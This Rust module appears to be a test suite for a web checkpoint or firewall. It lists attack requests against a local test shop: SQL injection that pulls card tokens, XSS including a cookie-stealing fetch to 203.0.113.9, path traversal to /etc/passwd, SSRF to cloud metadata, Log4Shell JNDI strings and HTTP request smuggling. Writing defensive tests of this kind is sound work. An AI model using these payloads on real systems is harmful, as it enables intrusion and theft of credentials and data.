//! Hand-made attackers: what they send, what they would carry off from an unguarded shop, what the checkpoint owes.
//!
//! Each sends the headers of a browser unless the headers are the attack, so that only the attack gives it away. Where
//! [`Attack::loot`] is set the bare shop really hands it over: a test holds every attack to that. Names and addresses
//! in the payloads are reserved for documentation or link-local and lead nowhere.

use serde_json::json;

use crate::files::SECRET;
use crate::loopback::Loopback;
use crate::request::{Expect, Request, Step};
use crate::session::customer;
use crate::visitor::Reply;

/// What kind of attacker it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Family {
    /// Talks to the database through an argument.
    SqlInjection,
    /// Plants a script in somebody else's page.
    CrossSiteScripting,
    /// Walks out of the download folder, or makes the server fetch.
    FileAndFetch,
    /// Tries last year's famous holes on everybody.
    KnownExploit,
    /// Looks for what was left lying about.
    Prober,
    /// Breaks the grammar of HTTP.
    Malformed,
}

impl Family {
    /// Every family, in the order they appear on stage.
    pub const ALL: [Self; 6] = [
        Self::SqlInjection,
        Self::CrossSiteScripting,
        Self::FileAndFetch,
        Self::KnownExploit,
        Self::Prober,
        Self::Malformed,
    ];

    /// The name on the programme.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::SqlInjection => "SQL injector",
            Self::CrossSiteScripting => "script planter",
            Self::FileAndFetch => "file thief",
            Self::KnownExploit => "exploit kit",
            Self::Prober => "prober",
            Self::Malformed => "smuggler",
        }
    }
}

/// What an attack gains where nothing stops it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Loot {
    /// This text in the reply.
    Text(String),
    /// This status code.
    Status(u16),
}

impl Loot {
    /// Whether `reply` hands it over.
    #[must_use]
    pub fn is_in(&self, reply: &Reply) -> bool {
        match self {
            Self::Text(text) => reply.contains(text),
            Self::Status(status) => reply.status == Some(*status),
        }
    }
}

/// One attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Attack {
    /// Who tries it.
    pub family: Family,
    /// The request and what the checkpoint owes it.
    pub step: Step,
    /// What the bare shop would give away; `None` where the shop itself has no such hole.
    pub loot: Option<Loot>,
}

impl Attack {
    fn new(family: Family, title: &str, request: Request, expect: Expect) -> Self {
        Self { family, step: Step { title: title.to_owned(), request, expect }, loot: None }
    }

    fn blocked(family: Family, title: &str, request: Request) -> Self {
        Self::new(family, title, request, Expect::Blocked)
    }

    fn gains(mut self, text: impl Into<String>) -> Self {
        self.loot = Some(Loot::Text(text.into()));
        self
    }

    fn gains_status(mut self, status: u16) -> Self {
        self.loot = Some(Loot::Status(status));
        self
    }

    /// Whether the checkpoint did what it owes: the expectation is met and nothing was carried off.
    #[must_use]
    pub fn is_stopped_by(&self, reply: &Reply) -> bool {
        let carried_off = self.loot.as_ref().is_some_and(|loot| loot.is_in(reply));
        self.step.expect.is_met_by(reply) && !carried_off
    }
}

/// All attacks on the shop behind `base`, family by family.
#[must_use]
pub fn all(base: Loopback) -> Vec<Attack> {
    let mut attacks = sql_injections(base);
    attacks.extend(cross_site_scripts(base));
    attacks.extend(files_and_fetches(base));
    attacks.extend(known_exploits(base));
    attacks.extend(probes(base));
    attacks.extend(malformed(base));
    attacks
}

fn sql_injections(base: Loopback) -> Vec<Attack> {
    let blocked = |title, request| Attack::blocked(Family::SqlInjection, title, request);
    let search = |text| Request::query(base, "/search", "q", text);
    let product = |id| Request::query(base, "/product", "id", id);
    let log_in = |name| Request::form(base, "/login", &[("name", name), ("password", "x")]);
    let (token, password) = (customer("alice").card_token, customer("alice").password);
    vec![
        blocked("a quote and OR 1=1 in the search", search("zzz' OR 1=1 -- ")).gains("/product?id=48"),
        blocked("UNION SELECT from the customers", search("zzz' UNION SELECT 1,name,card_token,2 FROM customers -- "))
            .gains(token),
        blocked(
            "UNION with comments for spaces",
            search("zzz'/**/uNiOn/**/aLl/**/sElEcT/**/1,name,card_token,2/**/FROM/**/customers/**/--/**/"),
        )
        .gains(token),
        blocked("UNION over line ends", search("zzz'\nUNION\r\nSELECT\t1,name,card_token,2\nFROM customers -- "))
            .gains(token),
        blocked("UNION on a number", product("0 UNION SELECT 1,name,password,2 FROM customers WHERE name='alice'"))
            .gains(password),
        blocked("a blind guess at a password", product("1 AND (SELECT substr(password,1,1) FROM customers)='k'"))
            .gains("SQL 実践入門"),
        blocked("a query slow enough to time", product("1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(1000000/2))))")),
        blocked("login as admin without a password", log_in("admin' --")).gains_status(303),
        blocked("login as whoever comes first", log_in("' OR 'a'='a' OR 'a'='")).gains_status(303),
        blocked(
            "SQL inside the JSON of a payment",
            Request::json(
                base,
                "/api/pay",
                &json!({ "product": "1' OR 1=1 UNION SELECT card_token FROM customers -- " }),
            ),
        ),
    ]
}

fn cross_site_scripts(base: Loopback) -> Vec<Attack> {
    let attack = |title, payload: &str| {
        let request = Request::query(base, "/search", "q", payload);
        Attack::blocked(Family::CrossSiteScripting, title, request).gains(payload)
    };
    vec![
        attack("a script element", "<script>fetch(\"//203.0.113.9/?c=\"+document.cookie)</script>"),
        attack("an image that fails to load", "<img src=x onerror=alert(1)>"),
        attack("an SVG without spaces", "<SvG/oNloAd=alert(1)>"),
        attack("a link that runs", "<a href=\"javascript:alert(document.cookie)\">本日の特価</a>"),
        attack("a frame", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    ]
}

fn files_and_fetches(base: Loopback) -> Vec<Attack> {
    let blocked = |title, request| Attack::blocked(Family::FileAndFetch, title, request);
    let download = |name| Request::query(base, "/download", "file", name);
    let raw = |target: &str| Request::page(base, target);
    vec![
        blocked("up to /etc/passwd", download("../../../etc/passwd")).gains("root:x:0:0"),
        blocked("up many folders", download("../../../../../../../../../../etc/passwd")).gains("root:x:0:0"),
        blocked("dots and slashes percent-encoded", raw("/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"))
            .gains("root:x:0:0"),
        blocked("up and down again to the supplier key", download("../../shop/public/../../shop/secret")).gains(SECRET),
        blocked("an absolute path", download("/etc/passwd")).gains("root:x:0:0"),
        blocked("cloud metadata", download("http://169.254.169.254/latest/meta-data/iam/security-credentials/")),
        blocked("a script from another server", download("http://203.0.113.9/shell.txt?")),
    ]
}

fn known_exploits(base: Loopback) -> Vec<Attack> {
    let blocked = |title, request| Attack::blocked(Family::KnownExploit, title, request);
    let home = || Request::page(base, "/");
    let jndi = "${jndi:ldap://203.0.113.9:1389/a}";
    vec![
        blocked("Log4Shell in a header", home().with_header("X-Api-Version", jndi)),
        blocked("Log4Shell as the browser's name", home().with_header("User-Agent", jndi)),
        blocked(
            "Log4Shell, spelt out",
            Request::query(base, "/search", "q", "${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}"),
        ),
        blocked("PROPFIND from a WebDAV worm", home().with_method("PROPFIND")),
        blocked("the servlet folder", Request::page(base, "/WEB-INF/web.xml")),
    ]
}

fn probes(base: Loopback) -> Vec<Attack> {
    let blocked = |title, request| Attack::blocked(Family::Prober, title, request);
    let home = || Request::page(base, "/");
    let counted = |title, path: &str| {
        let expect = Expect::Passes { status: 401, text: "Administrators only".to_owned() };
        Attack::new(Family::Prober, title, Request::page(base, path), expect)
    };
    vec![
        blocked("a scanner by its name", home().with_header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")),
        blocked("another scanner", home().with_header("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)")),
        blocked("nobody's browser", home().without_header("User-Agent")),
        blocked("the environment file", Request::page(base, "/.env")),
        blocked("the git folder", Request::page(base, "/.git/config")),
        blocked("a log file", Request::page(base, "/logs/error.log")),
        // The starter ACL counts visits to admin pages and lets the shop ask for the password.
        counted("the admin page, seen and counted", "/admin"),
    ]
}

fn malformed(base: Loopback) -> Vec<Attack> {
    let host = base.address();
    let refused =
        |title, text: String| Attack::new(Family::Malformed, title, Request::Raw(text.into_bytes()), Expect::Refused);
    vec![
        refused(
            "two ways to say how long the body is",
            format!(
                "POST /login HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n\
                 0\r\n\r\nGET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n"
            ),
        ),
        refused(
            "two lengths that differ",
            format!("POST /login HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\nContent-Length: 5\r\n\r\nname="),
        ),
        refused("a space before the colon", format!("GET / HTTP/1.1\r\nHost: {host}\r\nX-A : b\r\n\r\n")),
    ]
}
